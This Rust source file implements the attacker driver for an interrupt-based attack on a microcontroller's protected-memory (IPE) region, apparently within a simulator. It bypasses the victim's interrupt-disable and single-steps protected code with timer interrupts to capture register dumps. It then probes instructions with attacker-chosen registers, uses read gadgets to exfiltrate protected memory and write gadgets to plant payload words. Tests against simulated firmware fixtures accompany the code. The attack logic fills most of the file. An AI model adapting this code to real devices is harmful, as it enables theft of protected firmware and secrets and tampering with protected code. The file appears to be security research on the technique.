//! Attack driver: the untrusted-world code of the three-phase attack.
//!
//! Phase 1 single-steps the protected victim with one-shot timer interrupts
//! and snapshots the register file from the ISR, recovering PC and SR from
//! the interrupt stack frame. The probe machinery re-enters the victim at a
//! chosen instruction with attacker-controlled registers and reports register
//! and scratch-memory deltas. Phase 3 drives a read gadget across an address
//! range; a write-form gadget deploys a payload word into the protected
//! region.
//!
//! Everything here plays by the attacker's rules: it reads and writes only
//! unprotected memory (plus the interrupt vector), and sees protected state
//! exclusively through the register file and gadget effects. Ground-truth
//! inspection lives in the test suite, never here.

use crate::isa::{sr_bits, Reg, Width, SP};
use crate::machine::{MachineState, StepEventKind};
use crate::mem::{IpeConfig, MemFault, VEC_TIMER};
use crate::periph::PeriphError;
use crate::trace::{dump_flags, RegisterDump, TraceDb};
use thiserror::Error;

#[derive(Debug, Error)]
pub enum AttackError {
    #[error("victim was never interrupted (bad entry bypass at 0x{0:05X}?)")]
    NeverInterrupted(u32),
    #[error("victim faulted at 0x{pc:05X} during run {timer_count}")]
    VictimFault { pc: u32, timer_count: u32 },
    #[error("gadget calibration failed: {0}")]
    Calibration(String),
    #[error("gadget form does not {0}")]
    WrongGadgetForm(&'static str),
    #[error(transparent)]
    Mem(#[from] MemFault),
    #[error(transparent)]
    Timer(#[from] PeriphError),
    #[error("scratch region overlaps the protected region")]
    ScratchInIpe,
    #[error("entry bypass 0x{0:05X} lies outside the protected region")]
    BypassOutsideIpe(u32),
}

/// Attacker-controlled SRAM carve-up: a seeded data window for probe
/// pointers, the ISR stub, the return site, and the run stack.
#[derive(Debug, Clone, Copy)]
pub struct ScratchLayout {
    pub base: u32,
}

/// One 16-byte window per controlled pointer: slot 0 backs the probe SP,
/// slots 1..=12 back R4..R15.
pub const SCRATCH_SLOTS: u32 = 13;
pub const SCRATCH_SLOT_BYTES: u32 = 16;
pub const SCRATCH_DATA_BYTES: u32 = SCRATCH_SLOTS * SCRATCH_SLOT_BYTES;
const SEED_BASE: u8 = 0x30;

impl ScratchLayout {
    pub fn new(base: u32) -> Self {
        ScratchLayout { base }
    }

    pub fn data_end(&self) -> u32 {
        self.base + SCRATCH_DATA_BYTES
    }

    pub fn isr_addr(&self) -> u32 {
        self.data_end() + 0x10
    }

    pub fn return_site(&self) -> u32 {
        self.data_end() + 0x20
    }

    pub fn end(&self) -> u32 {
        self.data_end() + 0x30
    }

    /// Seed byte for an address inside the data window. Values start at
    /// `SEED_BASE` so small computation results do not alias scratch.
    pub fn seed_byte(&self, addr: u32) -> Option<u8> {
        (addr >= self.base && addr < self.data_end())
            .then(|| SEED_BASE.wrapping_add((addr - self.base) as u8))
    }

    /// Address whose seed byte is `v`, if any.
    pub fn identify_byte(&self, v: u8) -> Option<u32> {
        let idx = v.wrapping_sub(SEED_BASE) as u32;
        (v >= SEED_BASE && idx < SCRATCH_DATA_BYTES).then(|| self.base + idx)
    }

    /// Address whose seeded little-endian word is `v`, if any.
    pub fn identify_word(&self, v: u16) -> Option<u32> {
        let lo = (v & 0xFF) as u8;
        let hi = (v >> 8) as u8;
        let addr = self.identify_byte(lo)?;
        (addr + 1 < self.data_end() && hi == lo.wrapping_add(1)).then_some(addr)
    }

    fn slot_addr(&self, slot: u32) -> u32 {
        self.base + slot * SCRATCH_SLOT_BYTES + 8
    }

    /// Pointer values for R4..R15 under the given probe layout. The layout
    /// tables are chosen so that no register pair keeps the same address
    /// distance across layouts; a (register, offset) guess must therefore
    /// stay consistent across probes to survive.
    pub fn probe_regs(&self, layout: u8) -> [u32; 12] {
        const TABLES: [[u32; 12]; 4] = [
            [0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11],
            [5, 11, 4, 7, 10, 1, 9, 2, 6, 3, 0, 8],
            [4, 6, 11, 10, 2, 7, 9, 3, 8, 0, 5, 1],
            [11, 1, 8, 0, 7, 10, 9, 5, 2, 4, 6, 3],
        ];
        let table = &TABLES[(layout as usize) % TABLES.len()];
        let mut out = [0u32; 12];
        for (k, slot) in out.iter_mut().enumerate() {
            *slot = self.slot_addr(1 + table[k]);
        }
        out
    }

    pub fn probe_sp(&self) -> u32 {
        self.slot_addr(0)
    }
}

/// Attack configuration: where to enter the victim, how deep to step, and
/// which memory the attacker owns.
#[derive(Debug, Clone)]
pub struct AttackConfig {
    pub victim_entry: u32,
    /// First instruction after the interrupt-disable at the protected entry.
    pub dint_bypass: u32,
    pub desired_dumps: u32,
    pub timer_latency: u32,
    pub scratch: ScratchLayout,
    /// Stack top for victim runs (attacker-owned SRAM).
    pub stack_top: u32,
    /// GPR file the attacker establishes before every victim call.
    pub initial_regs: [u32; 12],
}

impl AttackConfig {
    pub fn new(victim_entry: u32, dint_bypass: u32, desired_dumps: u32) -> Self {
        AttackConfig {
            victim_entry,
            dint_bypass,
            desired_dumps,
            timer_latency: crate::machine::DEFAULT_IRQ_LATENCY,
            scratch: ScratchLayout::new(0x1C00),
            stack_top: 0x2400,
            initial_regs: [0; 12],
        }
    }

    pub fn validate(&self, ipe: Option<&IpeConfig>) -> Result<(), AttackError> {
        if let Some(cfg) = ipe {
            if !cfg.contains(self.dint_bypass) {
                return Err(AttackError::BypassOutsideIpe(self.dint_bypass));
            }
            if cfg.start < self.scratch.end() && self.scratch.base < cfg.end {
                return Err(AttackError::ScratchInIpe);
            }
        }
        Ok(())
    }
}

/// A protected-region instruction usable for reads or writes under timed
/// interrupts.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct GadgetDescriptor {
    pub addr: u32,
    pub form: GadgetForm,
    pub src_reg: Reg,
    pub dst_reg: Reg,
    /// Displacement for indexed forms; 0 for `@Rn`.
    pub offset: i32,
    pub width: Width,
    /// Cycles from entry at the gadget until it retires.
    pub cycles_required: u64,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum GadgetForm {
    /// `MOV @Rn, Rm` / `MOV @Rn+, Rm` / `MOV x(Rn), Rm`.
    Read,
    /// `MOV Rn, x(Rm)`.
    Write,
}

/// One probe: enter the victim at `target` with a fully attacker-chosen
/// register file and capture the resulting dump plus scratch deltas.
#[derive(Debug, Clone)]
pub struct ProbeRequest {
    pub target: u32,
    pub timer_compare: u64,
    /// Values for R4..R15.
    pub regs: [u32; 12],
    pub sp: u32,
    pub carry: bool,
}

#[derive(Debug, Clone)]
pub struct ProbeOutcome {
    pub dump: Option<RegisterDump>,
    /// (address, seeded value, observed value) for every changed scratch
    /// byte, the interrupt frame excluded.
    pub mem_delta: Vec<(u32, u8, u8)>,
    pub error: Option<String>,
}

/// Runs probes against a live machine. The trace analyzer is written against
/// this trait so it stays a pure consumer of probe data.
pub trait ProbeExecutor {
    fn scratch(&self) -> ScratchLayout;
    fn probe(&mut self, req: &ProbeRequest) -> ProbeOutcome;
}

pub struct Attacker {
    pub cfg: AttackConfig,
}

const RUN_FUEL: u64 = 2_000_000;

impl Attacker {
    pub fn new(cfg: AttackConfig) -> Self {
        Attacker { cfg }
    }

    /// Install the attacker pieces: ISR and return stubs (spin jumps, never
    /// actually stepped) and the timer vector.
    pub fn install(&self, state: &mut MachineState) -> Result<(), AttackError> {
        state.irq_latency = self.cfg.timer_latency;
        // 0x3FFF is JMP-to-self: a safe landing pad.
        state.mem.raw_write_word(self.cfg.scratch.isr_addr(), 0x3FFF)?;
        state
            .mem
            .raw_write_word(self.cfg.scratch.return_site(), 0x3FFF)?;
        state
            .mem
            .raw_write_word(VEC_TIMER, self.cfg.scratch.isr_addr() as u16)?;
        Ok(())
    }

    /// Reset machine state to the attacker's run context: known GPRs, fresh
    /// stack with the return site pushed (the call into the victim), GIE set.
    pub fn reset_for_run(&self, state: &mut MachineState) -> Result<(), AttackError> {
        for (k, v) in self.cfg.initial_regs.iter().enumerate() {
            state.regs[4 + k] = *v & 0xF_FFFF;
        }
        state.regs[SP.index()] = self.cfg.stack_top & 0xFFFE;
        let sp = state.sp().wrapping_sub(2) & 0xFFFF;
        state.regs[SP.index()] = sp;
        state
            .mem
            .raw_write_word(sp, self.cfg.scratch.return_site() as u16)?;
        state.set_sr(sr_bits::GIE);
        state.timer.stop();
        state.halted = false;
        state.mem.clear_violations();
        Ok(())
    }

    fn violation_flags(state: &MachineState) -> u16 {
        let mut f = 0;
        if state.mem.read_denied > 0 {
            f |= dump_flags::READ_VIOLATION;
        }
        if state.mem.write_denied > 0 {
            f |= dump_flags::WRITE_VIOLATION;
        }
        f
    }

    /// Snapshot the register file from inside the ISR. PC and SR come from
    /// the interrupt frame; SP is the victim's value with the frame popped.
    fn snapshot(&self, state: &mut MachineState, timer_count: u32) -> Result<RegisterDump, AttackError> {
        let isr_pc = self.cfg.scratch.isr_addr();
        let sp = state.sp();
        let saved_sr = state.mem.read_word(sp, isr_pc)? as u32;
        let saved_pc = state.mem.read_word(sp.wrapping_add(2) & 0xFFFF, isr_pc)? as u32;
        let mut r = state.regs;
        r[0] = saved_pc;
        r[1] = sp.wrapping_add(4) & 0xFFFF;
        r[2] = saved_sr;
        Ok(RegisterDump {
            timer_count,
            r,
            flags: Self::violation_flags(state),
        })
    }

    /// Run the victim once with the timer armed at `compare` cycles.
    /// Returns the dump on interrupt, or `None` when the victim returned to
    /// the attacker first.
    fn run_once(
        &self,
        state: &mut MachineState,
        compare: u64,
        start: u32,
        timer_count: u32,
    ) -> Result<Option<RegisterDump>, AttackError> {
        state.timer.arm(compare)?;
        state.set_pc(start);
        let ret = self.cfg.scratch.return_site();
        let ev = state.run_until_fuel(RUN_FUEL, |_, e| {
            e.kind == StepEventKind::InterruptEntered || e.pc_after == ret
        })?;
        match ev.kind {
            StepEventKind::InterruptEntered => Ok(Some(self.snapshot(state, timer_count)?)),
            _ if ev.pc_after == ret => Ok(None),
            StepEventKind::Halt | StepEventKind::DecodeFault => Err(AttackError::VictimFault {
                pc: ev.pc_before,
                timer_count,
            }),
            _ => Err(AttackError::NeverInterrupted(start)),
        }
    }

    /// Phase 1: arm the timer one cycle deeper per iteration, jumping past
    /// the victim's interrupt-disable, until the requested number of dumps
    /// is captured or the victim runs to completion.
    pub fn phase1_collect(
        &self,
        state: &mut MachineState,
        image_id: &str,
    ) -> Result<TraceDb, AttackError> {
        self.cfg.validate(state.mem.ipe.as_ref())?;
        self.install(state)?;
        let mut db = TraceDb {
            image_id: image_id.to_string(),
            ..Default::default()
        };
        for tc in 1..=self.cfg.desired_dumps {
            self.reset_for_run(state)?;
            match self.run_once(state, tc as u64, self.cfg.dint_bypass, tc)? {
                Some(dump) => {
                    state.uart.send(&dump.to_wire());
                    db.dumps.push(dump);
                }
                None => {
                    // Victim returned before the timer fired: emit the
                    // terminal record and stop.
                    let mut r = state.regs;
                    r[0] = state.pc();
                    let dump = RegisterDump {
                        timer_count: tc,
                        r,
                        flags: Self::violation_flags(state) | dump_flags::TERMINATED,
                    };
                    state.uart.send(&dump.to_wire());
                    db.dumps.push(dump);
                    db.terminated = true;
                    break;
                }
            }
        }
        Ok(db)
    }

    /// Locate the first interruptible entry offset: the instruction right
    /// after the victim's interrupt-disable. Probes offsets 0, 2, 4, ... with
    /// a one-cycle timer. A candidate counts only when the dump lands within
    /// one instruction of it: with interrupts alive the timer fires at the
    /// candidate's own boundary, whereas a dump far downstream means the
    /// victim disabled interrupts first and something re-enabled them later
    /// (a crafted-frame return, say).
    pub fn find_dint_bypass(
        &self,
        state: &mut MachineState,
        entry: u32,
    ) -> Result<u32, AttackError> {
        self.install(state)?;
        for offset in (0..=16u32).step_by(2) {
            let candidate = entry + offset;
            self.reset_for_run(state)?;
            match self.run_once(state, 1, candidate, 0) {
                Ok(Some(dump)) => {
                    let delta = dump.pc().wrapping_sub(candidate);
                    if (2..=8).contains(&delta) {
                        return Ok(candidate);
                    }
                }
                Ok(None) => continue,
                Err(AttackError::VictimFault { .. }) => continue,
                Err(e) => return Err(e),
            }
        }
        Err(AttackError::NeverInterrupted(entry))
    }

    /// Seed every scratch data byte with its identifying pattern.
    fn seed_scratch(&self, state: &mut MachineState) -> Result<(), AttackError> {
        let s = self.cfg.scratch;
        for addr in s.base..s.data_end() {
            state.mem.raw_write_byte(addr, s.seed_byte(addr).unwrap())?;
        }
        Ok(())
    }

    /// Run one probe: jump straight to the target with chosen registers and
    /// capture the dump plus scratch deltas (interrupt frame excluded).
    pub fn run_probe(&self, state: &mut MachineState, req: &ProbeRequest) -> ProbeOutcome {
        let fail = |msg: String| ProbeOutcome {
            dump: None,
            mem_delta: Vec::new(),
            error: Some(msg),
        };
        if let Err(e) = self.seed_scratch(state) {
            return fail(e.to_string());
        }
        if let Err(e) = self.reset_for_run(state) {
            return fail(e.to_string());
        }
        for (k, v) in req.regs.iter().enumerate() {
            state.regs[4 + k] = *v & 0xF_FFFF;
        }
        state.regs[SP.index()] = req.sp & 0xFFFE;
        state.set_sr(sr_bits::GIE | if req.carry { sr_bits::C } else { 0 });
        if let Err(e) = state.timer.arm(req.timer_compare) {
            return fail(e.to_string());
        }
        state.set_pc(req.target);
        let ret = self.cfg.scratch.return_site();
        let ev = match state.run_until_fuel(10_000, |_, e| {
            e.kind == StepEventKind::InterruptEntered || e.pc_after == ret
        }) {
            Ok(ev) => ev,
            Err(e) => return fail(e.to_string()),
        };
        if ev.kind != StepEventKind::InterruptEntered {
            return fail(format!("probe did not interrupt (stopped at 0x{:04X})", ev.pc_after));
        }
        let dump = match self.snapshot(state, 0) {
            Ok(d) => d,
            Err(e) => return fail(e.to_string()),
        };
        // Diff the scratch window against the seeds, skipping the ISR frame.
        let frame = state.sp();
        let s = self.cfg.scratch;
        let mut mem_delta = Vec::new();
        for addr in s.base..s.data_end() {
            if addr >= frame && addr < frame + 4 {
                continue;
            }
            let seeded = s.seed_byte(addr).unwrap();
            let now = match state.mem.raw_read_byte(addr) {
                Ok(b) => b,
                Err(e) => return fail(e.to_string()),
            };
            if now != seeded {
                mem_delta.push((addr, seeded, now));
            }
        }
        ProbeOutcome {
            dump: Some(dump),
            mem_delta,
            error: None,
        }
    }

    /// Targeted probes over one suspect instruction, in the shape the
    /// analyzer asks for them.
    pub fn probe_indirect(
        &self,
        state: &mut MachineState,
        suspect: u32,
        cycles_required: u64,
        probes: &[ProbeRequest],
    ) -> Vec<ProbeOutcome> {
        probes
            .iter()
            .map(|req| {
                let mut req = req.clone();
                req.target = suspect;
                req.timer_compare = cycles_required.max(1);
                self.run_probe(state, &req)
            })
            .collect()
    }

    /// One gadget execution; returns the destination register's value from
    /// the dump.
    fn run_gadget(
        &self,
        state: &mut MachineState,
        gadget: &GadgetDescriptor,
        src_value: u32,
        payload: Option<u32>,
    ) -> Result<u32, AttackError> {
        self.reset_for_run(state)?;
        state.regs[SP.index()] = self.cfg.scratch.probe_sp() & 0xFFFE;
        state.set_reg(gadget.src_reg, src_value);
        if let Some(p) = payload {
            // Write form: payload rides in what the gadget treats as its
            // register source.
            state.set_reg(gadget.dst_reg, src_value);
            state.set_reg(gadget.src_reg, p);
        }
        state.timer.arm(gadget.cycles_required.max(1))?;
        state.set_pc(gadget.addr);
        let ev = state.run_until_fuel(10_000, |_, e| e.kind == StepEventKind::InterruptEntered)?;
        if ev.kind != StepEventKind::InterruptEntered {
            return Err(AttackError::Calibration(format!(
                "gadget at 0x{:04X} did not interrupt",
                gadget.addr
            )));
        }
        Ok(state.reg(gadget.dst_reg))
    }

    /// Phase 3: read `range` through a read-form gadget. The gadget is
    /// calibrated against attacker memory before the protected range is
    /// touched.
    pub fn phase3_exfiltrate(
        &self,
        state: &mut MachineState,
        gadget: &GadgetDescriptor,
        range: std::ops::Range<u32>,
    ) -> Result<Vec<u8>, AttackError> {
        if gadget.form != GadgetForm::Read {
            return Err(AttackError::WrongGadgetForm("read"));
        }
        self.install(state)?;
        self.calibrate_read(state, gadget)?;
        let step = gadget.width.step();
        let mut out = Vec::with_capacity((range.end - range.start) as usize);
        let mut addr = range.start;
        while addr < range.end {
            let src = (addr as i64 - gadget.offset as i64) as u32 & 0xFFFF;
            let v = self.run_gadget(state, gadget, src, None)?;
            match gadget.width {
                Width::Byte => out.push(v as u8),
                _ => {
                    out.push((v & 0xFF) as u8);
                    if addr + 1 < range.end {
                        out.push((v >> 8) as u8);
                    }
                }
            }
            addr += step;
        }
        out.truncate((range.end - range.start) as usize);
        Ok(out)
    }

    /// Verify the gadget's form and offset against a known scratch word
    /// before trusting it on protected memory.
    fn calibrate_read(
        &self,
        state: &mut MachineState,
        gadget: &GadgetDescriptor,
    ) -> Result<(), AttackError> {
        self.seed_scratch(state)?;
        let probe_at = self.cfg.scratch.slot_addr(2);
        let expect_lo = self.cfg.scratch.seed_byte(probe_at).unwrap();
        let src = (probe_at as i64 - gadget.offset as i64) as u32 & 0xFFFF;
        let got = self.run_gadget(state, gadget, src, None)?;
        let ok = match gadget.width {
            Width::Byte => got as u8 == expect_lo,
            _ => {
                let expect =
                    expect_lo as u32 | (self.cfg.scratch.seed_byte(probe_at + 1).unwrap() as u32) << 8;
                got == expect
            }
        };
        if ok {
            Ok(())
        } else {
            Err(AttackError::Calibration(format!(
                "read gadget at 0x{:04X} returned 0x{:04X}",
                gadget.addr, got
            )))
        }
    }

    /// Deploy a payload into the protected region through a write-form
    /// gadget. Success of an in-region write is confirmed by reading back
    /// through a read gadget (the caller's job, mirroring the exfiltration
    /// path); writes to attacker-visible memory are checked directly.
    pub fn write_exploit(
        &self,
        state: &mut MachineState,
        gadget: &GadgetDescriptor,
        target: u32,
        payload: u16,
    ) -> Result<bool, AttackError> {
        if gadget.form != GadgetForm::Write {
            return Err(AttackError::WrongGadgetForm("write"));
        }
        self.install(state)?;
        let base = (target as i64 - gadget.offset as i64) as u32 & 0xFFFF;
        self.run_gadget(state, gadget, base, Some(payload as u32))?;
        let in_ipe = state
            .mem
            .ipe
            .as_ref()
            .map(|c| c.contains(target))
            .unwrap_or(false);
        if in_ipe {
            return Ok(true);
        }
        let readable = match gadget.width {
            Width::Byte => state.mem.raw_read_byte(target)? as u16,
            _ => state.mem.raw_read_word(target)?,
        };
        Ok(readable == payload || (gadget.width == Width::Byte && readable == payload & 0xFF))
    }
}

/// Probe executor over a live machine.
pub struct MachineProbes<'a> {
    pub attacker: &'a Attacker,
    pub state: &'a mut MachineState,
}

impl ProbeExecutor for MachineProbes<'_> {
    fn scratch(&self) -> ScratchLayout {
        self.attacker.cfg.scratch
    }

    fn probe(&mut self, req: &ProbeRequest) -> ProbeOutcome {
        self.attacker.run_probe(self.state, req)
    }
}

/// Restore any probe side effects inside the protected region by letting the
/// victim run to completion once, interrupt-free. Victim stores are
/// per-run deterministic, so a full run rewrites everything it owns.
pub fn restore_run(attacker: &Attacker, state: &mut MachineState) -> Result<(), AttackError> {
    attacker.reset_for_run(state)?;
    state.timer.stop();
    state.set_pc(attacker.cfg.dint_bypass);
    let ret = attacker.cfg.scratch.return_site();
    let ev = state.run_until_fuel(RUN_FUEL, |_, e| e.pc_after == ret)?;
    if ev.pc_after == ret {
        Ok(())
    } else {
        Err(AttackError::VictimFault {
            pc: ev.pc_after,
            timer_count: 0,
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::fixtures;
    use crate::isa::PC;

    fn setup(fixture: &str, dumps: u32) -> (MachineState, Attacker, crate::image::FirmwareImage) {
        let a = fixtures::build(fixture);
        let mut state = MachineState::new();
        a.image.load(&mut state, 0x2C00).unwrap();
        let entry = a.image.entry;
        let cfg = AttackConfig::new(entry, entry + 2, dumps);
        (state, Attacker::new(cfg), a.image)
    }

    #[test]
    fn loop_fixture_counter_descends() {
        let (mut state, attacker, image) = setup("loop_counter", 200);
        let db = attacker.phase1_collect(&mut state, &image.id()).unwrap();
        assert!(db.terminated);
        db.validate().unwrap();
        // R12 walks down by one at each loop boundary.
        let r12: Vec<u32> = db.dumps.iter().map(|d| d.r[12]).collect();
        let mut seen = Vec::new();
        for w in r12.windows(2) {
            if w[1] != w[0] {
                seen.push((w[0], w[1]));
            }
        }
        assert!(seen.contains(&(8, 7)));
        assert!(seen.contains(&(2, 1)));
        assert!(seen.contains(&(1, 0)));
    }

    #[test]
    fn zero_dumps_is_empty() {
        let (mut state, attacker, image) = setup("loop_counter", 0);
        let db = attacker.phase1_collect(&mut state, &image.id()).unwrap();
        assert!(db.is_empty());
    }

    #[test]
    fn dumps_recover_pc_and_sr_from_the_stack() {
        let (mut state, attacker, _image) = setup("dint_entry", 3);
        let db = attacker.phase1_collect(&mut state, "x").unwrap();
        let (lo, hi) = (0x4400, 0x4800);
        for d in &db.dumps {
            if !d.terminated() {
                assert!(d.pc() >= lo && d.pc() < hi, "dump PC 0x{:04X} inside region", d.pc());
                assert_ne!(d.sr() & sr_bits::GIE, 0, "victim runs with interrupts enabled");
            }
        }
    }

    #[test]
    fn bypass_discovery_skips_the_interrupt_disable() {
        // Every shipped victim opens with a 2-byte interrupt disable. The
        // stack fixture matters most here: its crafted-frame return
        // re-enables interrupts mid-run, which must not fool the probe into
        // accepting the disabled entry.
        for (name, _) in fixtures::all() {
            let (mut state, attacker, image) = setup(name, 10);
            let found = attacker.find_dint_bypass(&mut state, image.entry).unwrap();
            assert_eq!(found, image.entry + 2, "{name}");
        }
    }

    #[test]
    fn probe_sees_indirect_load() {
        // Probe the loop fixture's `MOV @R10, R12` with all pointers into
        // scratch: R12 ends up holding the seeded word at R10's slot.
        let (mut state, attacker, image) = setup("loop_counter", 1);
        attacker.install(&mut state).unwrap();
        let suspect = image.entry + 2 + 4; // after DINT and MOV #cnt,R10
        let s = attacker.cfg.scratch;
        let req = ProbeRequest {
            target: suspect,
            timer_compare: 2,
            regs: s.probe_regs(0),
            sp: s.probe_sp(),
            carry: false,
        };
        let out = attacker.run_probe(&mut state, &req);
        assert!(out.error.is_none(), "{:?}", out.error);
        let dump = out.dump.unwrap();
        let r10_ptr = req.regs[6];
        let expect = s.seed_byte(r10_ptr).unwrap() as u32
            | (s.seed_byte(r10_ptr + 1).unwrap() as u32) << 8;
        assert_eq!(dump.r[12], expect);
        assert_eq!(dump.r[10], r10_ptr, "plain indirect leaves the pointer");
        assert!(out.mem_delta.is_empty());
    }

    #[test]
    fn phase3_reads_the_whole_region_through_an_indirect_gadget() {
        let (mut state, attacker, image) = setup("loop_counter", 1);
        // `MOV @R10, R12` as the read gadget.
        let gadget = GadgetDescriptor {
            addr: image.entry + 6,
            form: GadgetForm::Read,
            src_reg: Reg(10),
            dst_reg: Reg(12),
            offset: 0,
            width: Width::Word,
            cycles_required: 2,
        };
        let (lo, hi) = image.ipe.unwrap();
        let bytes = attacker
            .phase3_exfiltrate(&mut state, &gadget, lo..hi)
            .unwrap();
        assert_eq!(bytes, image.bytes_in_range(lo, hi));
    }

    #[test]
    fn empty_range_exfiltrates_nothing() {
        let (mut state, attacker, image) = setup("loop_counter", 1);
        let gadget = GadgetDescriptor {
            addr: image.entry + 6,
            form: GadgetForm::Read,
            src_reg: Reg(10),
            dst_reg: Reg(12),
            offset: 0,
            width: Width::Word,
            cycles_required: 2,
        };
        let bytes = attacker
            .phase3_exfiltrate(&mut state, &gadget, 0x4400..0x4400)
            .unwrap();
        assert!(bytes.is_empty());
    }

    #[test]
    fn miscalibrated_gadget_is_rejected() {
        let (mut state, attacker, image) = setup("loop_counter", 1);
        let gadget = GadgetDescriptor {
            addr: image.entry + 6,
            form: GadgetForm::Read,
            src_reg: Reg(10),
            dst_reg: Reg(12),
            offset: 4, // wrong: the instruction has no displacement
            width: Width::Word,
            cycles_required: 2,
        };
        let err = attacker
            .phase3_exfiltrate(&mut state, &gadget, 0x4400..0x4402)
            .unwrap_err();
        assert!(matches!(err, AttackError::Calibration(_)));
    }

    #[test]
    fn write_exploit_lands_and_reads_back() {
        let (mut state, attacker, image) = setup("loop_counter", 1);
        // `MOV R12, 4(R10)` is the write gadget; `MOV @R10, R12` reads back.
        let sym = |n: &str| image.symbols[n];
        let write = GadgetDescriptor {
            addr: sym("loop") + 2 + 4, // after JNZ and MOV 2(R10),R13
            form: GadgetForm::Write,
            src_reg: Reg(12),
            dst_reg: Reg(10),
            offset: 4,
            width: Width::Word,
            cycles_required: 4,
        };
        let read = GadgetDescriptor {
            addr: image.entry + 6,
            form: GadgetForm::Read,
            src_reg: Reg(10),
            dst_reg: Reg(12),
            offset: 0,
            width: Width::Word,
            cycles_required: 2,
        };
        let target = sym("cnt2");
        assert!(attacker
            .write_exploit(&mut state, &write, target, 0x4130)
            .unwrap());
        let bytes = attacker
            .phase3_exfiltrate(&mut state, &read, target..target + 2)
            .unwrap();
        assert_eq!(bytes, vec![0x30, 0x41]);
        // Idempotent payload: writing the value already present.
        assert!(attacker
            .write_exploit(&mut state, &write, target, 0x4130)
            .unwrap());
        // Non-protected target is verified directly.
        assert!(attacker
            .write_exploit(&mut state, &write, 0x2000, 0xBEEF)
            .unwrap());
    }

    #[test]
    fn probe_of_pc_destination_reveals_the_register() {
        // mode_matrix pc0: MOV R13, PC. The dump PC equals R13's probe value.
        let a = fixtures::build("mode_matrix");
        let mut state = MachineState::new();
        a.image.load(&mut state, 0x2C00).unwrap();
        let attacker = Attacker::new(AttackConfig::new(a.image.entry, a.image.entry + 2, 1));
        attacker.install(&mut state).unwrap();
        let pc0 = a
            .listing
            .iter()
            .find(|e| e.text.contains("R13, PC"))
            .unwrap()
            .addr;
        let s = attacker.cfg.scratch;
        let req = ProbeRequest {
            target: pc0,
            timer_compare: 2,
            regs: s.probe_regs(1),
            sp: s.probe_sp(),
            carry: false,
        };
        let out = attacker.run_probe(&mut state, &req);
        let dump = out.dump.unwrap();
        assert_eq!(dump.pc(), req.regs[9] & 0xFFFE);
    }

    #[test]
    fn restore_run_heals_probe_side_effects() {
        let (mut state, attacker, image) = setup("mode_matrix", 1);
        attacker.install(&mut state).unwrap();
        // Probing the absolute-destination store writes attacker junk into
        // the protected word; a full run rewrites it.
        let victim_store = image
            .symbols
            .get("absword2")
            .copied()
            .unwrap();
        let store_insn = fixtures::build("mode_matrix")
            .listing
            .iter()
            .find(|e| e.text.contains("&absword2"))
            .unwrap()
            .addr;
        let s = attacker.cfg.scratch;
        let req = ProbeRequest {
            target: store_insn,
            timer_compare: 4,
            regs: s.probe_regs(0),
            sp: s.probe_sp(),
            carry: false,
        };
        let _ = attacker.run_probe(&mut state, &req);
        assert_ne!(state.mem.raw_read_word(victim_store).unwrap(), 0x0034);
        restore_run(&attacker, &mut state).unwrap();
        assert_eq!(state.mem.raw_read_word(victim_store).unwrap(), 0x0034);
        let _ = PC;
    }
}
